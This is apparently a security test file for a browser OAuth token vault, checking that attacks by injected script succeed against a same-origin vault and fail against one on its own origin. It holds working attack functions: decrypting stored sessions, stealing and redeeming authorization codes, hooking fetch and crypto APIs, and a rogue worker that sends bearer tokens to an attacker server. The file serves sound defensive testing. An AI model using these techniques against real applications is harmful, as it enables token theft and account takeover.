// These tests run attacks of script in the app's origin. The attacks succeed against a vault on the same origin, but
// not against a vault on its own origin. Each attack runs against both vaults. In these tests the app's pages have no
// policies and the site serves service workers, which are the best conditions for an attacker.
import assert from 'node:assert/strict'
import { after, afterEach, before, test } from 'node:test'
import { readAddress } from '../support/address_attacks.mjs'
import { booted, call, clickLogin, giveConsent, signIn, startApp, startLogin } from '../support/app.mjs'
import { expression } from '../support/engines/driver.mjs'
import { listen } from '../support/listen.mjs'
import { ownRequest } from '../support/own_request.mjs'
import { VAULT_HOSTS } from '../support/vault_origin.mjs'

const time = { timeout: 60_000 }

/** The attacker's server. `heard` lists the access tokens that it received. */
let evil
/**
 * Two versions of one app: the vault of `plain` is on the app's origin, and the vault of `framed` is on its own origin.
 */
let plain
let framed

// The provider is on the same site as the app, so browsers send its cookies also in frames.
const provider = { host: `id.${VAULT_HOSTS.app.split('.').slice(1).join('.')}`, accessTokenSeconds: 60 }
const config = { scope: 'openid profile orders' }

before(async () => {
  evil = await startEvil()
  plain = await startApp({ config, site: { host: VAULT_HOSTS.app }, provider })
  framed = await startApp({ config, provider, vaultOrigin: true })
  for (const app of [plain, framed]) {
    app.site.pageCsp = ''
    app.site.headers['/index.html'] = { 'Cross-Origin-Opener-Policy': null }
  }
})
after(() => Promise.all([plain?.close(), framed?.close(), evil?.close()]))
afterEach(() => {
  for (const app of [plain, framed]) app.setConfig({})
  evil.heard.length = 0
})

/** Starts the attacker's server, which accepts requests from any origin and records the access tokens in them. */
async function startEvil() {
  const heard = []
  const server = await listen({
    handler: (request, response) => {
      if (request.headers.authorization) heard.push(request.headers.authorization)
      response.writeHead(200, {
        'Access-Control-Allow-Origin': request.headers.origin ?? '*',
        'Access-Control-Allow-Headers': 'authorization',
        'Access-Control-Allow-Credentials': 'true',
      })
      response.end()
    },
  })
  return { ...server, heard }
}

const bearer = (app) => `Bearer ${app.ledger.newest('access_token').value}`

/** Opens the app in a new browser context. `script` runs in the pages of the app's origin, before their own script. */
async function openWith(app, script = () => {}, argument) {
  const context = await app.browser.newContext()
  const source = `if (location.origin === ${JSON.stringify(app.site.origin)}) (${script})(${JSON.stringify(argument) ?? ''})`
  await context.addInitScript(source)
  return app.open('/', context)
}

test(
  // claim: origin-1
  'reading storage: script decrypts a sealed session only if the vault is on the page’s own origin',
  time,
  async () => {
    const found = async (app) => {
      app.setConfig({ session: { persist: 'sealed' }, scope: 'openid profile offline_access orders' })
      const page = await openWith(app)
      await signIn(page)
      const texts = await page.evaluate(readStorage)
      return {
        databases: texts.length > 0,
        token: texts.join().includes(app.ledger.newest('refresh_token').value),
      }
    }
    assert.deepEqual(await found(plain), { databases: true, token: true })
    assert.deepEqual(await found(framed), { databases: false, token: false })
  },
)

/** Returns everything that script of the page can read from the frame with this URL. This function runs in the page. */
function reachIntoFrame(address) {
  const attempt = (action) => {
    try {
      return Object.prototype.toString.call(action())
    } catch ({ name }) {
      return name
    }
  }
  const { contentWindow, contentDocument } = document.querySelector(`iframe[src="${address}"]`)
  return {
    document: attempt(() => contentDocument),
    storage: attempt(() => contentWindow.indexedDB),
    cookies: attempt(() => contentWindow.document.cookie),
    script: attempt(() => contentWindow.eval('1')),
  }
}

// claim: origin-1
test('reading storage: the app’s script cannot read the vault’s origin', time, async () => {
  const page = await openWith(framed)
  await booted(page)
  const refused = 'SecurityError'
  assert.deepEqual(await page.evaluate(reachIntoFrame, `${framed.vault.origin}/frame.html`), {
    document: '[object Null]',
    storage: refused,
    cookies: refused,
    script: refused,
  })
  // Control experiment: the same script can read a frame of the app's own origin.
  await page.evaluate(() => {
    const own = document.createElement('iframe')
    own.src = '/empty.html'
    document.body.append(own)
    return new Promise((resolve) => (own.onload = resolve))
  })
  assert.deepEqual(await page.evaluate(reachIntoFrame, '/empty.html'), {
    document: '[object HTMLDocument]',
    storage: '[object IDBFactory]',
    cookies: '[object String]',
    script: '[object Number]',
  })
})

/**
 * Resolves with the content of the origin's databases, decrypted with every stored key. This function runs in the page.
 */
async function readStorage() {
  const done = (request) => new Promise((resolve) => (request.onsuccess = () => resolve(request.result)))
  const texts = []
  for (const { name } of await indexedDB.databases()) {
    const database = await done(indexedDB.open(name))
    const read = (store) => done(database.transaction(store).objectStore(store).getAll())
    const values = (await Promise.all([...database.objectStoreNames].map(read))).flat()
    database.close()
    const keys = values.filter((value) => value instanceof CryptoKey)
    for (const { iv, sealed, name: record } of values.filter((value) => value?.sealed)) {
      const additionalData = new TextEncoder().encode(record)
      for (const key of keys) {
        const opened = crypto.subtle.decrypt({ name: 'AES-GCM', iv, additionalData }, key, sealed)
        texts.push(await opened.then((text) => new TextDecoder().decode(text)).catch(() => 'not this key'))
      }
    }
  }
  return texts
}

const silentRequest = (app, redirectUri) => ownRequest(app, redirectUri, { scope: config.scope })

/** Exchanges a code as the attacker's server would. Resolves with the access token. */
async function redeem(app, code, { verifier, redirectUri }) {
  const response = await fetch(`http://127.0.0.1:${app.provider.port}/token`, {
    method: 'POST',
    body: new URLSearchParams({
      grant_type: 'authorization_code',
      client_id: app.clientId,
      redirect_uri: redirectUri,
      code_verifier: verifier,
      code,
    }),
  })
  return (await response.json()).access_token
}

/**
 * Loads the URL in a frame that runs no script. Resolves with the frame's final URL, or with the exception's name if
 * script of the page cannot read this URL. This function runs in the page.
 */
function askInFrame(url) {
  const frame = document.createElement('iframe')
  frame.setAttribute('sandbox', 'allow-same-origin')
  frame.src = url
  document.body.append(frame)
  return new Promise((resolve) => {
    frame.onload = () => {
      try {
        resolve(frame.contentWindow.location.href)
      } catch ({ name }) {
        resolve(name)
      }
    }
  })
}

const codeOf = (address) => new URLSearchParams(address.split('?')[1]).get('code')
const codesIssued = (app) => app.ledger.entries.filter(({ kind }) => kind === 'authorization_code').length

// claim: script-35
test('attacker’s silent login in a frame, app’s redirect URI: code is read and redeemed', time, async () => {
  const page = await openWith(plain)
  await signIn(page)
  const request = silentRequest(plain, `${plain.site.origin}/callback`)
  const address = await page.evaluate(askInFrame, request.url)
  assert.ok(await redeem(plain, codeOf(address), request))
})

// claim: origin-2
test('attacker’s silent login in a frame, vault’s redirect URI: code is out of reach', time, async () => {
  const page = await openWith(framed)
  await signIn(page)
  const before = codesIssued(framed)
  const request = silentRequest(framed, `${framed.vault.origin}/callback`)
  assert.equal(await page.evaluate(askInFrame, request.url), 'SecurityError')
  assert.equal(codesIssued(framed) - before, 1)
  assert.equal(framed.vault.requests.at(-1).path, '/callback')
})

for (const [name, choose, isRead] of [
  ['app’s redirect URI: code is read', () => [plain, plain.site], true],
  ['vault’s redirect URI: code is out of reach', () => [framed, framed.vault], false],
]) {
  // claim: origin-2
  test(`attacker’s silent login in a frame, whose redirect a policy reports, ${name}`, time, async () => {
    const [app, home] = choose()
    const page = await openWith(app)
    await signIn(page)
    const { url } = silentRequest(app, `${home.origin}/callback`)
    const before = codesIssued(app)
    const { report = '' } = await page.evaluate(expression(readAddress, ['report', url, 4000]))
    assert.equal(codesIssued(app) - before, 1)
    assert.equal(report.includes(app.ledger.newest('authorization_code').value), isRead)
  })
}

// claim: origin-2
test('attacker’s silent login: the provider knows no redirect URI of the app’s origin', time, async () => {
  const issued = async (app) => {
    const page = await openWith(app)
    await signIn(page)
    const before = codesIssued(app)
    const { url } = silentRequest(app, `${app.site.origin}/callback`)
    await page.evaluate(askInFrame, url)
    return codesIssued(app) - before
  }
  assert.equal(await issued(plain), 1, 'where it knows one there is a code')
  assert.equal(await issued(framed), 0)
})

/**
 * Opens a popup, and resolves with all of its URLs that script of the page can read. Reads until the popup shows a
 * readable URL or has closed. This function runs in the page.
 */
function askInPopup(url) {
  const popup = window.open(url, '_blank', 'popup')
  const seen = []
  const read = () => {
    try {
      return popup.location.href
    } catch {
      // The popup is at another origin.
      return ''
    }
  }
  return new Promise((resolve) => {
    const look = setInterval(() => {
      const here = popup.closed ? '' : read()
      if (here.startsWith('http')) seen.push(here)
      if (!popup.closed && !seen.length) return
      clearInterval(look)
      resolve(seen)
    }, 1)
  })
}

test(
  // claim: origin-2
  'attacker’s silent login in a popup, vault’s redirect URI: only its state comes back',
  time,
  async () => {
    const page = await openWith(framed)
    await signIn(page)
    // Without its script, the page in the popup does not take the response itself.
    const release = framed.site.override('/page.js', { body: '' })
    try {
      const request = silentRequest(framed, `${framed.vault.origin}/callback`)
      const [popup, answer] = await Promise.all([
        page.waitForEvent('popup'),
        page.evaluate(askInPopup, request.url),
      ])
      await popup.waitForURL(`${framed.site.origin}/callback**`)
      const { value: code } = framed.ledger.newest('authorization_code')
      assert.ok(!answer.join().includes(code), answer.join('\n'))
      // The page passes the response to the vault, which has not started this login, and sends a signed-in user to the app.
      const given = await page.evaluate(
        (state) => settle(auth.handleCallback(`/callback#strongroom=${state}`)),
        request.state,
      )
      assert.deepEqual(given, { value: { returnTo: '/' } })
      assert.equal((await page.evaluate(() => auth.session)).claims.sub, 'alice')
    } finally {
      release()
    }
  },
)

test('attacker’s silent login in a popup, app’s redirect URI: code is read', time, async () => {
  const page = await openWith(plain)
  await signIn(page)
  // The app's own script would remove the code from the URL immediately, so this script does not run.
  const release = plain.site.override('/page.js', { body: '' })
  try {
    const request = silentRequest(plain, `${plain.site.origin}/callback`)
    const addresses = await page.evaluate(askInPopup, request.url)
    assert.ok(await redeem(plain, codeOf(addresses.at(-1)), request))
  } finally {
    release()
  }
})

/**
 * Records the page's URL, and the messages on the package's channels. This function runs in each page of the app before
 * the page's own script.
 */
function eavesdrop() {
  localStorage.loot = `${localStorage.loot ?? ''}${location.href}\n`
  globalThis.overheard = []
  for (const name of ['strongroom', 'strongroom response']) {
    new BroadcastChannel(name).onmessage = ({ data }) => overheard.push(JSON.stringify(data))
  }
}

/**
 * Starts a login with the attacker's parameters, in which the user signs in. Resolves with the request, and with
 * everything that the attacker's script can read about the response.
 */
async function ownLogin(app, redirectUri) {
  const page = await openWith(app, eavesdrop)
  await booted(page)
  const request = ownRequest(app, redirectUri, { scope: config.scope, prompt: 'login consent' })
  const reading = page.evaluate(askInPopup, request.url)
  const popup = await page.waitForEvent('popup')
  await giveConsent(popup)
  const addresses = await reading
  if (!popup.isClosed()) await popup.waitForURL(`${app.site.origin}/**`)
  const rest = await page.evaluate(() => [document.cookie, ...Object.values(localStorage), ...overheard])
  return { request, addresses, texts: [...addresses, ...rest].join('\n') }
}

test('attacker’s login by the user, app’s redirect URI: code is read and redeemed', time, async () => {
  // The app's own script would remove the code from the URL immediately, so this script does not run.
  const release = plain.site.override('/callback', { body: '' })
  try {
    const { request, addresses } = await ownLogin(plain, `${plain.site.origin}/callback`)
    assert.ok(await redeem(plain, codeOf(addresses.at(-1)), request))
  } finally {
    release()
  }
})

// claim: origin-2
test('attacker’s login by the user, vault’s redirect URI: code is out of reach', time, async () => {
  const { request, texts } = await ownLogin(framed, `${framed.vault.origin}/callback`)
  const { value: code } = framed.ledger.newest('authorization_code')
  assert.ok(texts.includes(request.state), 'the script does observe something')
  assert.ok(!texts.includes(code), texts)
  // Control experiment: with the code, the attacker would get a token.
  assert.ok(await redeem(framed, code, request))
})

/** Makes the page start the worker at `url` in place of each `SharedWorker`. Runs before the page's own script. */
function replaceWorkers(url) {
  const { SharedWorker: Genuine } = window
  window.SharedWorker = function (_, options) {
    return new Genuine(url, { ...options, name: 'evil' })
  }
}

/** Returns a worker file with a vault like the app's own, except that `apis` allows the attacker's server. */
const evilWorker = (app, redirectUri) => `
import { vault } from '/strongroom/worker.js'
vault(${JSON.stringify({ ...app.config, redirectUri, apis: [{ url: `${evil.origin}/` }] })})`

// claim: origin-3
test('replacing the worker: the attacker’s worker gets tokens', time, async () => {
  plain.site.files['/evil.worker.js'] = evilWorker(plain, '/callback')
  const page = await openWith(plain, replaceWorkers, '/evil.worker.js')
  const release = plain.site.override('/evil.worker.js', { headers: { 'Content-Security-Policy': null } })
  try {
    await signIn(page)
    await call(page, `${evil.origin}/`)
    assert.deepEqual(evil.heard, [bearer(plain)])
  } finally {
    release()
  }
})

// claim: origin-3
test('replacing the worker: the frame keeps its own worker', time, async () => {
  framed.site.files['/evil.worker.js'] = evilWorker(framed, '/callback')
  const page = await openWith(framed, replaceWorkers, '/evil.worker.js')
  await signIn(page)
  assert.equal((await call(page, `${evil.origin}/`)).error.code, 'url_not_allowed')
  assert.deepEqual(evil.heard, [])
  assert.ok(!framed.site.requests.some(({ path }) => path === '/evil.worker.js'))
})

// claim: origin-3
test('replacing the worker: the app’s origin cannot use the vault’s redirect URI', time, async () => {
  framed.site.files['/evil.worker.js'] = evilWorker(framed, `${framed.vault.origin}/callback`)
  const release = framed.site.override('/evil.worker.js', { headers: { 'Content-Security-Policy': null } })
  for (const name of ['worker.js', 'strongroom_bg.wasm']) {
    framed.site.files[`/strongroom/${name}`] = framed.vault.files[`/strongroom/${name}`]
  }
  try {
    const page = await openWith(framed)
    const start = () =>
      settle(
        connect(new SharedWorker('/evil.worker.js', { type: 'module', name: `${Date.now()}` })).then(() => 0),
      )
    const { error } = await page.evaluate(start)
    assert.equal(error.code, 'config_invalid')
    assert.match(error.message, /redirectUri/)
    // Control experiment: the worker starts with another redirect URI, which the provider does not know.
    framed.site.files['/evil.worker.js'] = evilWorker(framed, '/callback')
    assert.deepEqual(await page.evaluate(start), { value: 0 })
  } finally {
    release()
  }
})

// claim: origin-3
test('constructing the worker’s URL: only script of its origin gets a port', time, async () => {
  const construct = async (app, address) => {
    const page = await openWith(app)
    await booted(page)
    return page.evaluate((url) => {
      try {
        return String(new SharedWorker(url, { type: 'module', extendedLifetime: true }))
      } catch ({ name }) {
        return name
      }
    }, address)
  }
  assert.equal(await construct(plain, `${plain.site.origin}/auth.worker.js`), '[object SharedWorker]')
  assert.equal(await construct(framed, `${framed.vault.origin}/auth.worker.js`), 'SecurityError')
})

/**
 * Records the data that pass through the browser APIs that the package may use. Any page of the app can read the
 * records. This function runs before the page's own script.
 */
function tap() {
  const keep = (text) => (localStorage.loot = (localStorage.loot ?? '') + text + '\n')
  const note = (value, depth = 0) => {
    if (typeof value === 'string') keep(value)
    else if (value instanceof URL || value instanceof Request) keep(value.url ?? value.href)
    else if (value && typeof value === 'object' && depth < 4)
      for (const key in value) note(value[key], depth + 1)
  }
  const wrap = (owner, name) => {
    const genuine = owner[name]
    owner[name] = function (...args) {
      note(args)
      const result = genuine.apply(this, args)
      note(result)
      return result
    }
  }
  wrap(window, 'fetch')
  wrap(window, 'postMessage')
  wrap(JSON, 'parse')
  wrap(JSON, 'stringify')
  for (const name of ['get', 'has', 'getAll']) wrap(URLSearchParams.prototype, name)
  for (const { prototype } of [MessagePort, Worker, BroadcastChannel]) wrap(prototype, 'postMessage')
  for (const name of ['encrypt', 'decrypt', 'digest', 'importKey', 'sign']) wrap(SubtleCrypto.prototype, name)
  wrap(IDBObjectStore.prototype, 'put')
  const { set } = Object.getOwnPropertyDescriptor(MessagePort.prototype, 'onmessage')
  Object.defineProperty(MessagePort.prototype, 'onmessage', {
    set(handler) {
      this.addEventListener('message', ({ data }) => note(data))
      set.call(this, handler)
    },
  })
}

for (const [mode, begin] of [
  ['redirect', startLogin],
  ['popup', clickLogin],
]) {
  test(
    // claim: script-4, origin-5
    `patched before the start, ${mode}: the code passes through a page of the app’s, or none`,
    time,
    async () => {
      const seenIn = async (app) => {
        const page = await openWith(app, tap)
        await booted(page)
        if (mode === 'redirect') {
          await begin(page)
          await giveConsent(page)
          await page.waitForFunction(() => location.pathname === '/callback' && globalThis.boot)
        } else {
          const [popup] = await Promise.all([page.waitForEvent('popup'), begin(page)])
          await giveConsent(popup)
          await page.evaluate(() => login)
        }
        assert.equal((await call(page, `${app.api.url}orders`)).error, undefined)
        const texts = await page.evaluate(() => localStorage.loot)
        const { value: code } = app.ledger.newest('authorization_code')
        const { value: token } = app.ledger.newest('access_token')
        const { codeVerifier } = app.ledger.tokenRequests().at(-1)
        const secrets = { code, token, codeVerifier }
        // Control: the script does observe the page's messages.
        assert.ok(texts.includes('"t":"fetch"'))
        return Object.keys(secrets).filter((name) => texts.includes(secrets[name]))
      }
      assert.deepEqual(await seenIn(plain), ['code'])
      assert.deepEqual(await seenIn(framed), [])
    },
  )
}
